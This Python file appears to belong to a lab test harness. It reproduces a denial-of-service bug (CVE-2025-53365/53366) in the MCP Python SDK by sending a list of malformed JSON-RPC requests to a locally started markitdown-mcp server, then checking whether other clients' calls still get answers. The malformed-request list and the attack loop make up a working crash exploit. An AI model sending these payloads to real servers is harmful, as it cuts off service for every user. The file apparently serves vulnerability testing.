"""The Python SDK before June 2025, which ends a server for all of its clients at the first request that is not as it should be."""

from attack import Attack, Http, python
from lab import Lab, free_port
from request import bearer, request
from session import Session

# Each is no request of the protocol, or has parameters of another form.
MALFORMED = (
    ("no/such/method", None),
    ("initialize", {}),
    ("resources/read", {"uri": "no address"}),
    ("resources/subscribe", {"uri": "no address"}),
    ("prompts/get", {"name": "x", "arguments": {"number": 5}}),
    ("completion/complete", {"ref": {"type": "ref/prompt", "name": "x"}, "argument": {}}),
    ("logging/setLevel", {"level": "loud"}),
    ("tools/list", {"_meta": {"progressToken": {}}}),
    ("tools/call", {"name": "convert_to_markdown", "arguments": []}),
    ("tools/call", {"name": 5}),
)


def server(lab: Lab) -> Http:
    port = free_port()
    started = python("markitdown", "-m", "markitdown_mcp", "--http", "--port", str(port), cwd=lab.inside)
    return Http(started.command, started.args, started.cwd, port, path="/mcp/")


async def ordinary(session: Session, _: Lab) -> None:
    await session.expect("# A page", "convert_to_markdown", uri="data:text/html,<h1>A page</h1>")


async def attack(session: Session, lab: Lab) -> None:
    """One request after the other, until somebody else's ordinary call is not answered any more."""
    headers = {**bearer(session.token), "MCP-Protocol-Version": "2025-03-26"}
    for method, params in MALFORMED:
        message = {"jsonrpc": "2.0", "id": 1, "method": method, **({} if params is None else {"params": params})}
        session.heard.append(f"{method}: {request('POST', session.endpoint, headers, message).text}")
        try:
            async with session.of_another_person() as other:
                await ordinary(other, lab)
        except Exception as error:  # of whatever kind: the server is gone
            (lab.folder / "down").write_text(f"{method} {params}: {error}")
            return


ATTACKS = (
    Attack(
        name="python-sdk-malformed",
        ids="CVE-2025-53365, CVE-2025-53366",
        package="mcp==1.8.1 (markitdown-mcp==0.0.1a4 over HTTP)",
        what="ends a server for everybody by a malformed request",
        prepare=lambda lab: None,
        server=server,
        ordinary=ordinary,
        attack=attack,
        happened=lambda _, lab: (lab.folder / "down").exists(),
        no_sandbox="the server runs by itself, so that the gateway puts no sandbox around it",
        needs=("markitdown",),
    ),
)
